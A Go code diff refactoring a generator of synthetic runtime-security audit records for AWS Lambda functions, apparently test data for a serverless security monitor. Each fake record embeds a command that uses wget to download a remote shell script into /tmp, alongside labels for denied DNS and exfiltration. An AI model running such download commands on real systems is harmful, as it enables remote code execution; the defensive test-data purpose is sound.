@@ -146,21 +146,28 @@ func newEstate(seed uint64, functions int, span time.Duration) *estate {
 
 // audit makes one at a time that grows from start, over the span after total of them.
 func (e *estate) audit(total int) api.AuditRecord {
-	f := int(e.zipf.Uint64())
-	rule := (f*7 + e.r.IntN(5)) % 40
 	when := start.Add(time.Duration(float64(e.span)*float64(e.n)/float64(total)) + time.Duration(e.r.IntN(90_000))*time.Millisecond)
 	when = when.Truncate(time.Millisecond)
 	e.n++
 	a := api.AuditRecord{
-		ID: fmt.Sprintf("%016x%016x", e.r.Uint64(), e.r.Uint64()), Stream: api.StreamRuntime, Time: when, Received: when.Add(2 * time.Second),
-		Account: fmt.Sprintf("%012d", 100000000000+f%20), Region: []string{"us-east-1", "eu-west-1", "eu-central-1"}[f%3],
-		Function: fmt.Sprintf("svc-%04d", f), FunctionID: fmt.Sprintf("arn:aws:lambda:%d:svc-%04d", f%20, f), Runtime: []string{"python3.13", "nodejs22.x"}[f%2], Provider: "aws",
-		Type: []string{"processes", "network", "filesystem"}[rule%3], AttackType: []string{"explicitlyDeniedProcess", "explicitlyDeniedDNS", "regFileAccess"}[rule%3],
-		Effect: []string{"alert", "prevent"}[rule%2], Rule: fmt.Sprintf("rule %d", rule), RequestID: fmt.Sprintf("%08x-%04x", e.r.Uint32(), e.n%7),
-		Severity: []string{"low", "medium", "high"}[rule%3], Techniques: []string{"", ",execution,", ",dns,exfiltration,"}[rule%3], Count: 1 + e.r.IntN(3),
+		ID: fmt.Sprintf("%016x%016x", e.r.Uint64(), e.r.Uint64()), Stream: api.StreamRuntime, Time: when, Received: when.Add(2 * time.Second), Provider: "aws",
+		RequestID: fmt.Sprintf("%08x-%04x", e.r.Uint32(), e.n%7), Count: 1 + e.r.IntN(3),
 		Msg: fmt.Sprintf("DNS resolution of domain name Host%d.example%d.com triggered by /usr/bin/wget explicitly denied by a runtime rule", e.r.IntN(5000), e.r.IntN(50)),
 	}
+	e.describe(&a, int(e.zipf.Uint64()), e.r.IntN(5))
 	a.Body = fmt.Appendf(nil, `{"_id":%q,"msg":%q,"method":%q,"function":%q,"requestID":%q,"pid":%d,"command":"/usr/bin/wget -q http://host%d.example.com/x.sh -O /tmp/x"}`,
 		a.ID, a.Msg, []string{"GET", "POST", "PUT"}[e.r.IntN(3)], a.Function, a.RequestID, e.r.IntN(65536), e.r.IntN(5000))
 	return a
+}
+
+// describe makes an audit one of a function, which breaks 5 rules.
+func (e *estate) describe(a *api.AuditRecord, f, broken int) {
+	rule := (f*7 + broken) % 40
+	a.Account, a.Region = fmt.Sprintf("%012d", 100000000000+f%20), []string{"us-east-1", "eu-west-1", "eu-central-1"}[f%3]
+	a.Function, a.FunctionID = fmt.Sprintf("svc-%04d", f), fmt.Sprintf("arn:aws:lambda:%d:svc-%04d", f%20, f)
+	a.Runtime = []string{"python3.13", "nodejs22.x"}[f%2]
+	a.Type, a.Effect = []string{"processes", "network", "filesystem"}[rule%3], []string{"alert", "prevent"}[rule%2]
+	a.AttackType = []string{"explicitlyDeniedProcess", "explicitlyDeniedDNS", "regFileAccess"}[rule%3]
+	a.Rule, a.Severity = fmt.Sprintf("rule %d", rule), []string{"low", "medium", "high"}[rule%3]
+	a.Techniques = []string{"", ",execution,", ",dns,exfiltration,"}[rule%3]
 }
